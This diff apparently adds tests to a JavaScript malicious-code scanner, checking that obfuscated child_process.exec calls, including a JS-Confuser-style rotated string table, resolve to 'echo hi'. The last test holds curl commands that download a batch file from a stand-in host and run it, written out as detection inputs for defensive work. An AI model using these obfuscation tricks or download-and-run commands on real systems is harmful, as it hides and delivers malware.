@@ -667,3 +667,69 @@ fn whoever_calls_a_collector_of_one_tester_is_seen() {
     let scanner = code.replace("'https://a1b2c3d4e5f6a7b8c9d0.oast.invalid'", "'https://' + NAME + '.oast.invalid'");
     assert!(flows::judge(&python(&scanner), false).iter().all(|f| !f.certain));
 }
+
+#[test]
+fn methods_that_a_script_gives_to_all_values_are_called() {
+    for code in [
+        "String.prototype.pick = function () { var out = ''; var a = this.split(','); for (var i = 0; i < a.length; i++) \
+         out += 'ihx ceo'.substr(a[i], 1); return out }\nrequire('child_process').exec('5,4,1,6,3,1,0'.pick())",
+        "if (!String['prototype'].fill) { String['prototype'].fill = function () { var given = arguments; return \
+         this.replace(/{(\\d+)}/g, function (whole, at) { return typeof given[at] != 'undefined' ? given[at] : whole }) } }\n\
+         require('child_process').exec('e{0} {1}i'.fill('cho', 'h'))",
+        "Object.defineProperty(Array.prototype, 'all', { value: function () { return this.join('') } });\n\
+         require('child_process').exec(['ec', 'ho', ' hi'].all())",
+        "eval('Array.prototype.go = eval'); [].go(\"require('child_process').exec('echo hi')\")",
+    ] {
+        let outcome = outcome(Language::JavaScript, code);
+        assert_eq!(subject(&outcome, Act::Run), "echo hi", "{code}");
+    }
+}
+
+#[test]
+fn tables_that_turn_themselves_are_read_as_they_end_up() {
+    // What JS-Confuser makes: a turned table, functions that are wrapped to change their length, state kept beside the
+    // elements of lists, a decoder that is chosen at run time.
+    let code = r#"
+function nothing() {}
+var define = Object['defineProperty'], table;
+table = turned.call(this);
+function wrap(f, n = 0x0) { var w = function () { return f(...arguments) }; return define(w, 'length', { value: n, configurable: true }) }
+function turned() {
+    return wrap((list, i = 0x10, c, d = 0x6) => {
+        for (i = i; i % 0x4 === 0x0; i++) c = 0x0, list = list.concat(wrap(() => {
+            var q; c++; if (c === 0x1) { return [] } for (q = 0x21; q; q--) list.unshift(list.pop()); return []
+        })());
+        for (d = d; d; d--) list.unshift(list.pop());
+        return list
+    }, 0x1)(['length', 0x3f, 'undefined', 0x0])
+}
+var held = [], kept = ['', 'gejq"jk'];
+var open = wrap((...a) => {
+    nothing(a.length = 0x5, a[0x2] = a[0x2]);
+    if (typeof a[0x3] === table[0x0]) { a[0x3] = decode }
+    a.state = 0x3f;
+    if (typeof a[0x4] === 'undefined') { a[0x4] = held }
+    if (a[0x0] !== a[0x1]) { return a[0x4][a[a.state - 0x3f]] || (a[0x4][a[0x0]] = a[0x3](kept[a[0x0]])) }
+}, 0x5);
+function decode(text) { var out = []; for (var i = 0x0; i < text.length; i++) { out.push(text.charCodeAt(i) - 0x2) } return plain(out) }
+function plain(...a) {
+    nothing(a.length = 0x1, a[0x93] = a[0x0]);
+    if (typeof Decoder !== 'undefined' && Decoder) { return new Decoder().decode(new Bytes(a[0x93])) } else { return '' }
+}
+var world = (() => globalThis)() || {}, Decoder = world.TextDecoder, Bytes = world.Uint8Array;
+const { ['ex' + 'ec']: start } = require('child_process');
+start(open(0x1));
+"#;
+    let outcome = outcome(Language::JavaScript, code);
+    assert_eq!(subject(&outcome, Act::Run), "echo hi");
+}
+
+#[test]
+fn a_file_is_the_same_behind_a_variable_of_the_shell() {
+    for code in [
+        "require('child_process').exec('curl -so %TEMP%a.bat \"https://h.invalid/a\" && %TEMP%a.bat')",
+        "require('child_process').exec('curl -so %TEMP%a.bat \"https://h.invalid/a\" && start \"\" %TEMP%a.bat')",
+    ] {
+        assert!(rules(Language::JavaScript, code).contains(&"flow-download-run"), "{code}");
+    }
+}
